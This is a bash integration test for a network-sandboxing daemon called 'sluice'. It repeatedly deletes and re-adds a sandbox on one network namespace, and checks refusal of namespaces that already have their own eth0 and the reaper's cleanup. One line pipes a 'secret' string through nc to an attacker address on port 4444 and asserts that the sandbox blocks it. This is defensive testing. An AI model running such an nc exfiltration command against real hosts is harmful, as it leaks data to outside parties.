#!/bin/bash
# 47b-attach-readd: `sandbox del` then `sandbox add --netns` of the same
# namespace at once, as a CNI DEL then ADD does. The deleted sandbox's veth
# goes in the background (reaper.c), its eth0 still in the namespace for
# tens of milliseconds; the new add must not collide with it. An eth0 that
# is not one of sluice's is refused, and left alone. TB_ROUNDS=N: N rounds
# instead of 30.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init readd
ROUNDS=${TB_ROUNDS:-30}
tb_internet_up || { tb_fail "test bed up"; tb_done; }
# -v: sluiced logs when an add deletes the old veth itself
tb_sluiced_start -v || { tb_fail "sluiced up"; tb_done; }

unshare -n sleep 120 </dev/null >/dev/null 2>&1 &
holder=$!
_tb_record "$holder" holder
sleep 0.2
ns="/proc/$holder/ns/net"
in_ns() { nsenter --net="$ns" "$@"; }

cat > "$TB_DIR/policy.json" <<EOF
{"sluice": {"allowedCidrs": ["192.0.2.10:443"]}}
EOF
tb_sluice sandbox add "${P}-re" --netns "$ns" --policy "$TB_DIR/policy.json" \
    >/dev/null
tb_assert_eq "$?" 0 "the first add"

fails=0
for i in $(seq "$ROUNDS"); do
	if ! tb_sluice sandbox del "${P}-re" >/dev/null 2>"$TB_DIR/err"; then
		echo "# round $i: del: $(cat "$TB_DIR/err")"
		fails=$((fails + 1))
		continue
	fi
	if ! tb_sluice sandbox add "${P}-re" --netns "$ns" \
	    --policy "$TB_DIR/policy.json" >/dev/null 2>"$TB_DIR/err"; then
		echo "# round $i: add: $(cat "$TB_DIR/err")"
		fails=$((fails + 1))
		# the next round's del needs a sandbox
		sleep 0.2
		tb_sluice sandbox add "${P}-re" --netns "$ns" \
		    --policy "$TB_DIR/policy.json" >/dev/null 2>&1
	fi
done
echo "# $fails of $ROUNDS del-then-add rounds failed;" \
    "$(grep -c 'before the reaper got to it' "$TB_DIR/sluiced.log")" \
    "old veths deleted by the add itself"
tb_assert_eq "$fails" 0 "del then add at once on the same namespace, $ROUNDS times"

tb_assert_eq "$(in_ns ip -o link show type veth | grep -c ': eth0@')" 1 \
    "the namespace has one eth0"
# a live sandbox's eth0 is sluice's veth too, but no deleted one's
err=$(tb_sluice sandbox add "${P}-twice" --netns "$ns" \
    --policy "$TB_DIR/policy.json" 2>&1 >/dev/null)
tb_assert_eq "$?" 1 "a second sandbox on the same namespace is refused"
echo "# $err"
out=$(in_ns curl -s --max-time 5 --cacert "$TB_CA" \
    --resolve "a.test:443:$TB_ADDR_HTTPS" https://a.test/)
tb_assert_eq "$out" "hello from a.test" "the last one reaches its allowed host"
echo readd-secret | in_ns nc -w 2 "$TB_ADDR_ATK" 4444 >/dev/null 2>&1
tb_check "and not the attacker" [ $? != 0 ]

# An eth0 of the namespace's own (a veth too, its peer in the namespace)
# is none of sluice's: refused, kept.
unshare -n sleep 120 </dev/null >/dev/null 2>&1 &
other=$!
_tb_record "$other" other
sleep 0.2
ons="/proc/$other/ns/net"
nsenter --net="$ons" ip link add eth0 type veth peer name own1
err=$(tb_sluice sandbox add "${P}-own" --netns "$ons" \
    --policy "$TB_DIR/policy.json" 2>&1 >/dev/null)
tb_assert_eq "$?" 1 "a namespace with an eth0 of its own is refused"
echo "# $err"
tb_assert_match "$err" "has an eth0 already" "the error says the namespace has an eth0"
tb_check "its eth0 is left alone (its peer own1 lives)" nsenter --net="$ons" ip link show own1
tb_check "and no name is left" [ ! -e "/run/netns/${P}-own" ]
# the same while the reaper still holds an eth0 of sluice's elsewhere
tb_sluice sandbox del "${P}-re" >/dev/null
err=$(tb_sluice sandbox add "${P}-own" --netns "$ons" \
    --policy "$TB_DIR/policy.json" 2>&1 >/dev/null)
tb_assert_eq "$?" 1 "refused too while a veth is being deleted"
tb_check "its eth0 is still left alone" nsenter --net="$ons" ip link show own1

# the reaper finds what an add deleted gone, and counts it done: no
# failure, no slot kept out of use
tb_assert_eq "$(tb_wait_count 0 5 tb_status reaper.pending)" 0 "the reaper is done"
tb_assert_eq "$(tb_status reaper.failed)" 0 "with no failure"
tb_assert_eq "$(grep -c 'stays out of use' "$TB_DIR/sluiced.log")" 0 "and no slot lost"
tb_check "sluiced is still up" tb_sluice sandbox list >/dev/null
kill "$holder" "$other" 2>/dev/null
tb_done
